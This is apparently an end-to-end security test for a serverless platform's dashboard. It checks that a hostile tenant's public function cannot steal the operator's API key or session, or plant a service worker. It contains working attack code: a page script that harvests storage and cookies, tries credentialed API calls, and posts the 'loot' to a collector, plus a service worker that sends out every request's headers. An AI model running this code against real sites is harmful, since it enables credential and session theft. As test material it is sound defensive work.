/**
 * A hostile tenant against the dashboard, in real Chromium. An operator signs
 * in on the dashboard; in the same browser a public function's page tries to
 * read the key (storage, cookies), to call the API with the operator's
 * credentials, and to register a service worker (served by another public
 * function with `Service-Worker-Allowed: /`) over the dashboard. Function
 * endpoints live on their own origin and every answer is sandboxed, so the
 * tenant's logs get neither the key nor any API answer, no worker is
 * registered, and the dashboard keeps working.
 *
 * Before the origin split (one origin, key in localStorage) the page read the
 * key from localStorage and the worker registered for scope `/`: this test
 * failed there on both counts.
 */
import { randomBytes } from 'node:crypto';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../helpers/browser.ts';
import { deploy, uniqueName } from '../helpers/packages.ts';
import { fetchWithoutKey, startPlatform, type Platform } from '../helpers/platform.ts';
import { waitFor } from '../helpers/wait.ts';

/** The hostile page: everything an attacker's script would try, reported back to the tenant's own function. */
function hostilePage(apiUrl: string, reportUrl: string, workerPath: string): string {
  const script = `
(async () => {
  const API = ${JSON.stringify(apiUrl)};
  const loot = { at: location.href, origin: String(self.origin) };
  const grab = (name, read) => { try { loot[name] = read(); } catch (e) { loot[name] = 'refused: ' + e.name; } };
  grab('localStorage', () => JSON.stringify(Object.entries(localStorage)));
  grab('sessionStorage', () => JSON.stringify(Object.entries(sessionStorage)));
  grab('cookie', () => document.cookie);
  let storedKey = null;
  try { storedKey = localStorage.getItem('hearth.apiKey') || sessionStorage.getItem('hearth.apiKey'); } catch {}
  const attempts = [
    ['simple', API + '/v1/functions', { credentials: 'include' }],
    ['dashboardHeader', API + '/v1/functions', { credentials: 'include', headers: { 'x-hearth-dashboard': '1' } }],
    ['session', API + '/v1/session', { credentials: 'include', headers: { 'x-hearth-dashboard': '1' } }],
    ['sameOriginPath', '/v1/functions', { credentials: 'include', headers: { 'x-hearth-dashboard': '1' } }],
    ['storedKey', API + '/v1/functions', { headers: { authorization: 'Bearer ' + storedKey } }],
  ];
  for (const [name, url, init] of attempts) {
    try { const r = await fetch(url, init); loot[name] = r.status + ' ' + (await r.text()); } catch (e) { loot[name] = 'refused: ' + e.name; }
  }
  try {
    const registration = await navigator.serviceWorker.register(${JSON.stringify(workerPath)}, { scope: '/' });
    loot.serviceWorker = 'registered ' + registration.scope;
  } catch (e) { loot.serviceWorker = 'refused: ' + e.name; }
  await fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: 'LOOT ' + JSON.stringify(loot) }).catch(() => {});
  document.body.dataset.done = 'yes';
})();`;
  return `<!doctype html><html><head><title>free kittens</title></head><body><h1>kittens</h1><script>${script}</script></body></html>`;
}

/** The tenant's collector: its GET is the page, its POST a report it logs. */
const collector = (page: string) => `
exports.handler = async (event) => {
  if (event.requestContext.http.method === 'POST') {
    const body = event.isBase64Encoded ? Buffer.from(event.body, 'base64').toString() : event.body;
    console.log(String(body));
    return { statusCode: 204 };
  }
  console.log('HEADERS ' + JSON.stringify(event.headers) + ' COOKIES ' + JSON.stringify(event.cookies ?? []));
  return { statusCode: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: ${JSON.stringify(page)} };
};`;

/** A service worker that would send every request the dashboard makes, headers and all, to the tenant. */
const worker = (reportUrl: string) => `
const script = ${JSON.stringify(`
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const seen = 'SW ' + e.request.url + ' ' + JSON.stringify([...e.request.headers]);
  fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: seen }).catch(() => {});
});`)};
exports.handler = async () => ({
  statusCode: 200,
  headers: { 'content-type': 'text/javascript', 'service-worker-allowed': '/' },
  body: script,
});`;

/** Answers with the headers the query asks for (`?h=<json>`), echoing what it was sent. */
const HEADER_ECHO = `
exports.handler = async (event) => ({
  statusCode: 200,
  headers: { 'content-type': 'application/json', ...JSON.parse(event.queryStringParameters?.h ?? '{}') },
  cookies: JSON.parse(event.queryStringParameters?.c ?? '[]'),
  body: JSON.stringify({ headers: event.headers, cookies: event.cookies ?? [] }),
});`;

describe('function endpoints off the dashboard’s origin', () => {
  let platform: Platform;
  let browser: Browser;
  const tenant = uniqueName('hostile');
  let tenantKey: string;
  const secretName = uniqueName(`operator-secret-${randomBytes(3).toString('hex')}`);
  const [evil, sw, echo] = [uniqueName('kittens'), uniqueName('sw'), uniqueName('echo')];
  const asTenant = (path: string, init: RequestInit = {}) =>
    platform.api(path, { ...init, headers: { ...(init.headers as Record<string, string>), authorization: `Bearer ${tenantKey}` } });
  const deployPublic = async (name: string, code: string) => {
    const form = new FormData();
    form.set('code', new Blob([Buffer.from(code)]), 'index.js');
    form.set('runtime', 'nodejs20');
    form.set('public', 'true');
    const res = await asTenant(`/v1/functions/${name}`, { method: 'PUT', body: form });
    expect(res.status, await res.clone().text()).toBe(201);
  };
  /** Everything the hostile functions ever logged. */
  const tenantLogs = async () => {
    const texts: string[] = [];
    for (const name of [evil, sw, echo]) {
      const body = await (await asTenant(`/v1/functions/${name}/logs?limit=100`)).json();
      for (const item of body.items ?? []) texts.push(String(item.logs));
    }
    return texts.join('\n');
  };

  beforeAll(async () => {
    platform = await startPlatform();
    expect((await platform.api('/v1/namespaces', { method: 'POST', body: JSON.stringify({ name: tenant }) })).status).toBe(201);
    tenantKey = (await (await platform.api(`/v1/namespaces/${tenant}/keys`, { method: 'POST', body: '{"name":"t"}' })).json()).key;
    // Something only the operator's API answers contain.
    const source = { bytes: Buffer.from('exports.handler = async () => "mine";'), filename: 'index.js' };
    expect((await deploy(platform, secretName, source, { runtime: 'nodejs20' })).status).toBe(201);
    const report = `${platform.fnUrl}/fn/@${tenant}/${evil}/report`;
    await deployPublic(evil, collector(hostilePage(platform.url, report, `/fn/@${tenant}/${sw}/sw.js`)));
    await deployPublic(sw, worker(report));
    await deployPublic(echo, HEADER_ECHO);
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await platform?.stop();
  });

  async function signIn(context: BrowserContext): Promise<Page> {
    const page = await context.newPage();
    await page.goto(`${platform.url}/`);
    await page.fill('#api-key', platform.apiKey);
    await page.click('#login-submit');
    await page.locator(`#functions tr[data-function="${secretName}"]`).waitFor();
    return page;
  }

  it('keeps the key and every API answer from a hostile public function opened in the operator’s browser', async () => {
    const context = await browser.newContext();
    const dashboard = await signIn(context);
    // The key is nowhere a script can read it: only an HttpOnly cookie, scoped to the API.
    const storage = (await dashboard.evaluate('JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie])')) as string;
    expect(storage).not.toContain(platform.apiKey);
    const [cookie, ...others] = await context.cookies();
    expect(others).toEqual([]);
    expect(cookie).toMatchObject({ name: 'hearth_session', path: '/v1', httpOnly: true, sameSite: 'Strict' });
    expect(cookie!.value).not.toContain(platform.apiKey);

    // The tenant's page at its real address, in the same browser.
    const hostile = await context.newPage();
    const opened = await hostile.goto(`${platform.fnUrl}/fn/@${tenant}/${evil}/`);
    expect(opened!.status()).toBe(200);
    expect(opened!.headers()['content-security-policy']).toContain('sandbox allow-scripts');
    await hostile.waitForSelector('body[data-done="yes"]');
    let looted = '';
    await waitFor('the hostile page’s report', async () => (looted = await tenantLogs()).includes('LOOT '), 15_000);
    const loot = JSON.parse(/LOOT (.*)/.exec(looted)![1]!);
    expect(loot.origin).toBe('null'); // sandboxed: an opaque origin, no storage of anyone's
    expect(loot.localStorage).toMatch(/^refused/);
    expect(loot.serviceWorker).toMatch(/^refused/);
    for (const attempt of ['simple', 'dashboardHeader', 'session', 'storedKey']) expect(loot[attempt], attempt).toMatch(/^refused|^401/);

    // The same path on the dashboard's origin serves no function at all.
    const wrong = await hostile.goto(`${platform.url}/fn/@${tenant}/${evil}/`);
    expect(wrong!.status()).toBe(421);
    expect(await hostile.locator('body[data-done]').count()).toBe(0);
    expect(JSON.parse(await hostile.locator('body').innerText()).error).toMatchObject({
      code: 'WrongOrigin',
      functionUrl: `${platform.fnUrl}/fn/@${tenant}/${evil}/`,
    });

    // No service worker over the dashboard; reloaded, it still works, and none of its calls reach the tenant.
    expect(await dashboard.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)')).toBe(0);
    const apiCalls: string[] = [];
    dashboard.on('requestfinished', (r) => r.url().includes('/v1/') && apiCalls.push(r.url()));
    await dashboard.reload();
    await dashboard.locator(`#functions tr[data-function="${secretName}"]`).waitFor();
    expect(apiCalls.length).toBeGreaterThan(0);
    expect(await dashboard.evaluate('navigator.serviceWorker.controller')).toBeNull();

    const logs = await tenantLogs();
    expect(logs).not.toContain(platform.apiKey);
    expect(logs).not.toContain(cookie!.value);
    expect(logs).not.toContain(secretName);
    expect(logs).not.toMatch(/^SW /m);
    await context.close();
  });

  it('signs out, and honours the session cookie only from the dashboard itself', async () => {
    const context = await browser.newContext();
    const dashboard = await signIn(context);
    const [cookie] = await context.cookies();
    const session = `hearth_session=${cookie!.value}`;
    const call = (headers: Record<string, string>) => fetchWithoutKey(`${platform.url}/v1/functions`, { headers });
    expect((await call({ cookie: session, 'x-hearth-dashboard': '1' })).status).toBe(200);
    expect((await call({ cookie: session, 'x-hearth-dashboard': '1', 'sec-fetch-site': 'same-origin' })).status).toBe(200);
    // What a request from another page carries: the cookie without the header, or from another origin of the same site.
    expect((await call({ cookie: session })).status).toBe(401);
    expect((await call({ cookie: session, 'x-hearth-dashboard': '1', 'sec-fetch-site': 'same-site' })).status).toBe(401);
    // A second, planted session cookie makes neither count.
    expect((await call({ cookie: `${session}; hearth_session=planted`, 'x-hearth-dashboard': '1' })).status).toBe(401);
    expect((await call({ cookie: `hearth_session=${cookie!.value.slice(0, -2)}AA`, 'x-hearth-dashboard': '1' })).status).toBe(401);
    // The cookie is no key for function endpoints, and never reaches a function.
    const echoed = await fetchWithoutKey(`${platform.fnUrl}/fn/@${tenant}/${echo}`, { headers: { cookie: `${session}; theirs=1` } });
    expect((await echoed.json()).cookies).toEqual(['theirs=1']);

    // A session ends with its key: revoked, the cookie is refused on its next use.
    const made = await (await platform.api(`/v1/namespaces/${tenant}/keys`, { method: 'POST', body: '{"name":"short-lived"}' })).json();
    const signedIn = await fetchWithoutKey(`${platform.url}/v1/session`, { method: 'POST', headers: { authorization: `Bearer ${made.key}` } });
    expect(await signedIn.json()).toMatchObject({ signedIn: true, namespace: tenant, admin: false });
    const tenantSession = signedIn.headers.getSetCookie()[0]!.split(';')[0]!;
    expect((await call({ cookie: tenantSession, 'x-hearth-dashboard': '1' })).status).toBe(200);
    expect((await platform.api(`/v1/namespaces/${tenant}/keys/${made.id}`, { method: 'DELETE' })).ok).toBe(true);
    await waitFor('the revoked key’s session refused', async () => (await call({ cookie: tenantSession, 'x-hearth-dashboard': '1' })).status === 401);
    // Without any credentials the dashboard learns it must ask for the key, without a 401.
    expect(await (await fetchWithoutKey(`${platform.url}/v1/session`)).json()).toEqual({ signedIn: false });

    await dashboard.click('#logout');
    await dashboard.waitForSelector('#login:not([hidden])');
    await expect.poll(() => context.cookies()).toEqual([]);
    await dashboard.reload();
    await dashboard.waitForSelector('#login:not([hidden])');
    await context.close();
  });

  it('trades a key an older dashboard left in localStorage for a session, and removes it', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${platform.url}/`);
    await page.waitForSelector('#login:not([hidden])');
    await page.evaluate(`localStorage.setItem('hearth.apiKey', ${JSON.stringify(platform.apiKey)})`);
    await page.reload();
    await page.locator(`#functions tr[data-function="${secretName}"]`).waitFor();
    expect(await page.evaluate(`localStorage.getItem('hearth.apiKey')`)).toBeNull();
    expect((await context.cookies()).map((c) => c.name)).toEqual(['hearth_session']);
    await context.close();
  });

  it('fences in every /fn answer and keeps each origin to its own', async () => {
    const fn = (query: Record<string, unknown>, init: RequestInit = {}) =>
      fetchWithoutKey(
        `${platform.fnUrl}/fn/@${tenant}/${echo}?${new URLSearchParams(Object.entries(query).map(([k, v]): [string, string] => [k, JSON.stringify(v)]))}`,
        init,
      );
    const res = await fn(
      {
        h: {
          'content-security-policy': "default-src 'self'",
          'service-worker-allowed': '/',
          'clear-site-data': '"*"',
          'access-control-allow-origin': '*',
        },
        c: ['mine=1', 'root=1; Path=/', 'dashboard=1; Path=/v1', 'wide=1; Domain=127.0.0.1', 'hearth_session=planted; Path=/v1', '__Host-hearth_session=x; Path=/; Secure'],
      },
    );
    expect(res.status).toBe(200);
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toContain("default-src 'self'"); // the function's own policy stays …
    expect(csp).toContain('sandbox allow-scripts allow-forms allow-popups allow-downloads'); // … and ours is always there
    expect(csp).not.toContain('allow-same-origin');
    expect(res.headers.get('service-worker-allowed')).toBeNull();
    expect(res.headers.get('clear-site-data')).toBeNull();
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('cross-origin-resource-policy')).toBe('same-site');
    // Only its own cookies, under its own path: none rides on the dashboard's requests (cookies ignore ports).
    expect(res.headers.getSetCookie()).toEqual([`mine=1; Path=/fn/@${tenant}/${echo}`]);

    // A service worker's script is never served, from either origin.
    const script = await fn({}, { headers: { 'service-worker': 'script' } });
    expect(script.status).toBe(403);
    expect((await script.json()).error.code).toBe('ServiceWorkerRefused');
    expect((await fetchWithoutKey(`${platform.url}/ui/dashboard.js`, { headers: { 'service-worker': 'script' } })).status).toBe(403);
    // Errors on the function origin are sandboxed too.
    const missing = await fetchWithoutKey(`${platform.fnUrl}/v1/functions`);
    expect(missing.status).toBe(404);
    expect(missing.headers.get('content-security-policy')).toContain('sandbox');

    // The API origin runs no function: 421 with where to go, no redirect, the key never forwarded.
    const wrong = await platform.api(`/fn/@${tenant}/${echo}/x?y=1`, { method: 'POST', body: '{}', redirect: 'manual' });
    expect(wrong.status).toBe(421);
    expect((await wrong.json()).error).toMatchObject({ code: 'WrongOrigin', functionUrl: `${platform.fnUrl}/fn/@${tenant}/${echo}/x?y=1` });
    expect((await fetchWithoutKey(`${platform.fnUrl}/healthz`)).status).toBe(200);

    // The dashboard's pages: strict policy, no framing, no referrer.
    const page = await fetchWithoutKey(`${platform.url}/`);
    expect(page.headers.get('content-security-policy')).toMatch(/frame-ancestors 'none'/);
    expect(page.headers.get('content-security-policy')).toMatch(/script-src 'self'/);
    expect(page.headers.get('x-frame-options')).toBe('DENY');
    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
    expect(page.headers.get('cross-origin-opener-policy')).toBe('same-origin');
  });
});
